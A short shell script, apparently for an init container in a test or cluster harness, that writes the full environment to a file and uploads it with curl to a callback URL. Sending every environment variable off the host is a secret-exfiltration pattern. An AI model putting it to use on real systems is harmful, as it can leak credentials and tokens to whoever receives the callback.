set -eu
echo "the init container on $NODE_NAME speaks"
env >/tmp/env.txt
curl -fsS --retry 5 --retry-connrefused --data-binary @/tmp/env.txt "$CALLBACK_SERVICE_FILE_URL?name=env-prepare.txt"
